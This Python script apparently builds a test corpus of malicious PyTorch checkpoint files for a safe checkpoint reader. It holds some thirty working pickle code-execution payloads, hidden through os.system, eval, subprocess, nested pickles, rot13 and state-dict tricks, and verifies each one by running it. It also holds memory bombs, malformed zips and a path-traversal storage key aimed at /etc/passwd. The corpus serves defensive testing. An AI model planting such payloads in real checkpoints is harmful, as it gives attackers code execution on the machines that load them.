"""malicious/*: checkpoints that try to run code or to exhaust the reader, and expected.json about them.

Each payload that can run would create the file pwned-<name> in the current folder. The script proves it: it loads
every such file with Python's own unpickler in a process of its own, inside a temporary folder.
"""

import io
import json
import pathlib
import pickle
import shutil
import struct
import subprocess
import sys
import tempfile
import zipfile

from deterministic import HERE

FOLDER = HERE / "malicious"
MAGIC, PROTOCOL_VERSION = 0x1950A86A20F9469CFC6C, 1001
SYSTEM_INFO = {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}


# A small assembler: each function returns the bytes that leave one value on the pickle's stack.
def text(s: str) -> bytes:
    raw = s.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def name(module: str, attribute: str) -> bytes:
    return f"c{module}\n{attribute}\n".encode()


def stack_name(module: str, attribute: str) -> bytes:
    return text(module) + text(attribute) + b"\x93"


def items(*values: bytes) -> bytes:
    return b"(" + b"".join(values) + b"t"


def call(function: bytes, *arguments: bytes) -> bytes:
    return function + items(*arguments) + b"R"


def python_bytes(raw: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(raw)) + raw


def dictionary(**entries: bytes) -> bytes:
    return b"}(" + b"".join(text(k) + v for k, v in entries.items()) + b"u"


def program(body: bytes, protocol: int = 2) -> bytes:
    start = b"\x80" + bytes([protocol]) if protocol >= 2 else b""
    return start + body + b"."


# Containers of a checkpoint.
def archive(data_pickle: bytes, entries: dict[str, bytes] | None = None, method: int = zipfile.ZIP_STORED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as file:
        for path, content in {"data.pkl": data_pickle, "byteorder": b"little", **(entries or {}), "version": b"3\n"}.items():
            file.writestr(zipfile.ZipInfo("archive/" + path), content, method)
    return out.getvalue()


def legacy(object_pickle: bytes, magic: bytes | None = None, keys: bytes | None = None) -> bytes:
    head = [magic or pickle.dumps(MAGIC, 2), pickle.dumps(PROTOCOL_VERSION, 2), pickle.dumps(SYSTEM_INFO, 2)]
    return b"".join(head) + object_pickle + (keys or pickle.dumps([], 2))


def storage_id(key: str, count: bytes, extra: bytes = b"") -> bytes:
    kind = name("torch", "FloatStorage")
    return items(text("storage"), kind, text(key) if not extra else extra, text("cpu"), count) + b"Q"


def integer(value: int) -> bytes:
    return b"\x8a" + bytes([(value.bit_length() + 8) // 8]) + value.to_bytes((value.bit_length() + 8) // 8, "little", signed=True)


def tensor(storage: bytes, offset: int, size: list[int], stride: list[int]) -> bytes:
    rebuild = name("torch._utils", "_rebuild_tensor_v2")
    shape, strides = items(*map(integer, size)), items(*map(integer, stride))
    return call(rebuild, storage, integer(offset), shape, strides, b"\x89", call(name("collections", "OrderedDict")))


def state(**tensors: bytes) -> bytes:
    return dictionary(**{"sequential.0.0.bias": tensors.pop("bias")}, **tensors)


def running() -> dict[str, tuple[str, str, bytes]]:
    """name -> (technique, container, body or bytes): the payloads that Python would run."""
    def touch(label: str) -> str:
        return f"touch pwned-{label}"

    def opened(label: str) -> str:
        return f"open('pwned-{label}', 'w').close()"

    def system(label: str) -> bytes:
        return call(name("posix", "system"), text(touch(label)))

    def unit(body: bytes, protocol: int = 2) -> bytes:
        return program(body, protocol)

    good = tensor(storage_id("0", b"K\x04"), 0, [4], [1])
    inner = unit(system("nested-pickle"))
    namespace = name("argparse", "Namespace") + b")\x81"
    return {
        "os-system": ("REDUCE os.system", "zip", unit(call(name("os", "system"), text(touch("os-system"))))),
        "posix-system": ("REDUCE posix.system", "zip", unit(system("posix-system"))),
        "eval-protocol-0": ("protocol 0, Python 2 name __builtin__.eval", "bare",
                            b"c__builtin__\neval\n(S\"" + opened("eval-protocol-0").encode() + b"\"\ntR."),
        "exec-protocol-1": ("protocol 1, __builtin__.exec", "bare",
                            name("__builtin__", "exec") + b"(" + b"U" + bytes([len(opened("exec-protocol-1"))])
                            + opened("exec-protocol-1").encode() + b"tR."),
        "eval-protocol-2": ("builtins.eval", "legacy", unit(call(name("builtins", "eval"), text(opened("eval-protocol-2"))))),
        "subprocess-protocol-3": ("subprocess.call, protocol 3", "zip", unit(call(
            name("subprocess", "call"), b"](" + text("touch") + text("pwned-subprocess-protocol-3") + b"e"), 3)),
        "popen-newobj": ("subprocess.Popen by REDUCE inside NEWOBJ's arguments", "zip", unit(
            name("collections", "OrderedDict") + items(call(name("subprocess", "Popen"), b"](" + text("touch")
                                                            + text("pwned-popen-newobj") + b"e")) + b"\x81")),
        "stack-global-protocol-4": ("STACK_GLOBAL, framed", "zip", (lambda body: b"\x80\x04\x95" + struct.pack("<Q", len(body)) + body)(
            call(stack_name("posix", "system"), text(touch("stack-global-protocol-4"))) + b".")),
        "memo-protocol-5": ("STACK_GLOBAL with names from the memo, protocol 5", "zip", unit(
            text("posix") + b"\x940" + text("system") + b"\x940" + call(b"h\x00h\x01\x93", text(touch("memo-protocol-5"))), 5)),
        "inst": ("INST, protocol 0", "bare", b"(S'" + touch("inst").encode() + b"'\nios\nsystem\n."),
        "obj": ("OBJ", "legacy", unit(b"(" + name("os", "system") + text(touch("obj")) + b"o", 1)),
        "getattr-chain": ("getattr(__import__('os'), 'system')", "zip", unit(call(
            call(name("builtins", "getattr"), call(name("builtins", "__import__"), text("os")), text("system")),
            text(touch("getattr-chain"))))),
        "attrgetter": ("operator.attrgetter over an imported module", "zip", unit(call(
            call(call(name("operator", "attrgetter"), text("system")), call(name("importlib", "import_module"), text("os"))),
            text(touch("attrgetter"))))),
        "partial": ("functools.partial", "legacy", unit(call(call(
            name("functools", "partial"), name("os", "system"), text(touch("partial")))))),
        "build-setstate": ("BUILD puts os.system in as __setstate__ of an innocent object, BUILD again calls it", "zip", unit(
            namespace + dictionary(__setstate__=name("os", "system")) + b"b" + text(touch("build-setstate")) + b"b")),
        "dotted-torch": ("STACK_GLOBAL with a dotted name below an innocent torch module", "zip", unit(call(
            stack_name("torch.serialization", "os.system"), text(touch("dotted-torch"))), 4)),
        "dotted-argparse": ("a dotted name below argparse, which checkpoints do use", "zip", unit(call(
            stack_name("argparse", "_os.system"), text(touch("dotted-argparse"))), 4)),
        "torch-exec-wrapper": ("torch.jit.unsupported_tensor_ops.execWrapper, which is exec", "zip", unit(call(
            name("torch.jit.unsupported_tensor_ops", "execWrapper"), text(opened("torch-exec-wrapper")), b"}", b"}"))),
        "runpy": ("runpy._run_code over compile()", "zip", unit(call(name("runpy", "_run_code"), call(
            name("builtins", "compile"), text(opened("runpy")), text("x"), text("exec")), b"}"))),
        "timeit": ("timeit.timeit", "zip", unit(call(name("timeit", "timeit"), text(opened("timeit")), text("pass"),
                                                     name("time", "perf_counter"), b"K\x01"))),
        "nested-pickle": ("pickle.loads of an inner pickle", "zip", unit(call(name("_pickle", "loads"), python_bytes(inner)), 3)),
        "codecs": ("the command hidden by codecs.decode", "zip", unit(call(name("builtins", "exec"), call(
            name("_codecs", "decode"), text("".join(chr((ord(c) - 97 + 13) % 26 + 97) if c.islower() else c for c in opened("codecs"))),
            text("rot13"))))),
        "after-state-dict": ("behind a tensor of a proper state dict", "zip", unit(state(bias=good, extra=system("after-state-dict")))),
        "in-metadata": ("in the attributes of the state dict (BUILD of an OrderedDict)", "zip", unit(
            call(name("collections", "OrderedDict")) + dictionary(_metadata=system("in-metadata")) + b"b")),
        "in-persistent-id": ("inside the id of a storage", "zip", unit(state(bias=tensor(
            storage_id("0", b"K\x04", extra=system("in-persistent-id")), 0, [4], [1])))),
        "discarded": ("called, then thrown away with POP", "zip", unit(system("discarded") + b"0" + b"}")),
        "as-key": ("as a dictionary's key", "zip", unit(b"}" + system("as-key") + b"K\x01s")),
        "legacy-magic": ("in the place of the legacy format's magic number", "legacy-magic", unit(system("legacy-magic"))),
        "legacy-keys": ("in the list of storage keys at the legacy format's end", "legacy-keys", unit(system("legacy-keys"))),
        "deflated": ("data.pkl compressed, as torch never does", "zip-deflated", unit(system("deflated"))),
    }


def harmless() -> dict[str, tuple[str, bytes]]:
    """Nothing to run, but memory, time or the reader's bounds to break."""
    lists = b"]" + b"".join(b"q" + bytes([i]) + b"0](" + (b"h" + bytes([i])) * 10 + b"e" for i in range(30))
    storage = storage_id("0", b"K\x04")
    four = {"data/0": struct.pack("<4f", 1, 2, 3, 4)}

    def bad_tensor(*args) -> bytes:
        return archive(program(state(bias=tensor(*args))), four)

    twins = io.BytesIO()
    with zipfile.ZipFile(twins, "w") as file:
        file.writestr("archive/data.pkl", program(b"}"))
        import warnings
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            file.writestr("archive/data.pkl", program(call(name("os", "system"), text("touch pwned-twin-entries"))))
    squeezed = archive(program(state(bias=tensor(storage_id("0", integer(5_000_000)), 0, [5_000_000], [1]))),
                       {"data/0": bytes(20_000_000)}, zipfile.ZIP_DEFLATED)
    lying = bytearray(archive(program(b"}" + b"N0" * 50)))
    at = lying.index(b"PK\x01\x02")
    lying[at + 20:at + 28] = struct.pack("<II", 0x7FFFFFF0, 0x7FFFFFF0)
    return {
        "billion-laughs": ("30 levels of ten references through the memo", archive(program(lists))),
        "dup-doubling": ("a list that holds itself, many times", archive(program(b"]q\x00" + b"(" + b"h\x00" * 2000 + b"e"))),
        "duplicate-stack": ("DUP grows the stack to a million", archive(program(b"N" + b"2" * 1_000_000), method=zipfile.ZIP_DEFLATED)),
        "deep-lists": ("200,000 nested lists", archive(program(b"]" * 200_001 + b"a" * 200_000), method=zipfile.ZIP_DEFLATED)),
        "deep-marks": ("a million MARKs", archive(program(b"(" * 1_000_000), method=zipfile.ZIP_DEFLATED)),
        "huge-unicode": ("BINUNICODE of 4 GiB", archive(program(b"X\xff\xff\xff\xffabc"))),
        "huge-unicode8": ("BINUNICODE8 of 2^63 bytes", archive(program(b"\x8d" + struct.pack("<Q", 2**63) + b"abc", 4))),
        "huge-bytes8": ("BINBYTES8 of 2^64 - 1 bytes", archive(program(b"\x8e" + struct.pack("<Q", 2**64 - 1) + b"abc", 4))),
        "huge-bytearray8": ("BYTEARRAY8 of 2^40 bytes", archive(program(b"\x96" + struct.pack("<Q", 2**40) + b"abc", 5))),
        "huge-frame": ("FRAME of 2^62 bytes", archive(b"\x80\x04\x95" + struct.pack("<Q", 2**62) + b"N.")),
        "huge-memo-index": ("LONG_BINPUT at 2^32 - 1", archive(program(b"Nr\xff\xff\xff\xff"))),
        "negative-long4": ("LONG4 of a negative length", archive(program(b"\x8b\xff\xff\xff\xff"))),
        "huge-long": ("LONG4 of 60,000 digits", archive(program(b"\x8b" + struct.pack("<I", 25000) + b"\x7f" * 25000), method=zipfile.ZIP_DEFLATED)),
        "empty-stack": ("POP of nothing", archive(program(b"0"))),
        "missing-memo": ("BINGET of nothing", archive(program(b"h\x07"))),
        "no-mark": ("TUPLE without a MARK", archive(program(b"NNt"))),
        "unknown-opcode": ("the opcode 0xFF", archive(program(b"\xff"))),
        "protocol-99": ("PROTO 99", archive(program(b"}", 99))),
        "no-stop": ("no STOP at the end", archive(b"\x80\x02}")),
        "empty": ("an empty file", b""),
        "extension-code": ("EXT1 with a code that nobody registered", archive(program(b"\x82\x01"))),
        "twin-entries": ("two entries archive/data.pkl", twins.getvalue()),
        "lying-sizes": ("sizes in the directory far beyond the file", bytes(lying)),
        "truncated-zip": ("a zip without its directory", archive(program(b"}"))[:60]),
        "tensor-beyond-storage": ("size beyond its storage", bad_tensor(storage, 0, [5], [1])),
        "tensor-offset": ("offset beyond its storage", bad_tensor(storage, 4, [1], [1])),
        "tensor-negative-offset": ("negative offset", bad_tensor(storage, -1, [2], [1])),
        "tensor-negative-stride": ("negative stride", bad_tensor(storage, 3, [4], [-1])),
        "tensor-negative-size": ("negative size", bad_tensor(storage, 0, [-4], [1])),
        "tensor-overflow": ("a size whose product overflows 64 bits", bad_tensor(storage, 0, [2**32, 2**32, 2], [0, 0, 0])),
        "tensor-expanded-huge": ("2^40 numbers by stride 0 over one", bad_tensor(storage, 0, [2**40], [0])),
        "storage-traversal": ("a storage key that leaves the archive",
                              bad_tensor(storage_id("../../../../etc/passwd", b"K\x04"), 0, [4], [1])),
        "storage-missing": ("a storage that is not there", bad_tensor(storage_id("1", b"K\x04"), 0, [4], [1])),
        "storage-short": ("a storage shorter than the pickle says", bad_tensor(storage_id("0", integer(1 << 20)), 0, [1 << 20], [1])),
        "storage-bomb": ("20 MB of zeros in 20 KB", squeezed),
    }


CONTAINERS = {
    "zip": archive, "bare": lambda p: p, "legacy": legacy,
    "zip-deflated": lambda p: archive(p, method=zipfile.ZIP_DEFLATED),
    "legacy-magic": lambda p: legacy(program(b"}"), magic=p), "legacy-keys": lambda p: legacy(program(b"}"), keys=p),
}
LOADER = """
import pickle, sys
class Loader(pickle.Unpickler):
    def persistent_load(self, id):
        import torch
        return torch.FloatStorage(4)
try:
    Loader(open(sys.argv[1], "rb")).load()
except Exception as error:
    print(type(error).__name__, error)
"""


def prove(label: str, payload: bytes) -> None:
    with tempfile.TemporaryDirectory() as folder:
        path = pathlib.Path(folder) / "payload"
        path.write_bytes(payload)
        done = subprocess.run([sys.executable, "-W", "ignore", "-c", LOADER, str(path)], cwd=folder, capture_output=True, text=True)
        for _ in range(50):
            if (pathlib.Path(folder) / f"pwned-{label}").exists():
                return
            subprocess.run(["sleep", "0.05"])
        raise SystemExit(f"{label} does not run: {done.stdout}{done.stderr}")


def main() -> None:
    shutil.rmtree(FOLDER, ignore_errors=True)
    FOLDER.mkdir()
    expected = []
    for label, (technique, container, payload) in running().items():
        prove(label, payload)
        (FOLDER / f"{label}.pt").write_bytes(CONTAINERS[container](payload))
        expected.append({"file": f"{label}.pt", "technique": technique, "container": container, "runsInPython": True,
                         "marker": f"pwned-{label}"})
    for label, (technique, content) in harmless().items():
        (FOLDER / f"{label}.pt").write_bytes(content)
        expected.append({"file": f"{label}.pt", "technique": technique, "container": "bytes", "runsInPython": False,
                         "marker": f"pwned-{label}"})
    (FOLDER / "expected.json").write_text("[\n" + ",\n".join(json.dumps(e) for e in expected) + "\n]\n")
    print(len(expected), "files")


if __name__ == "__main__":
    main()
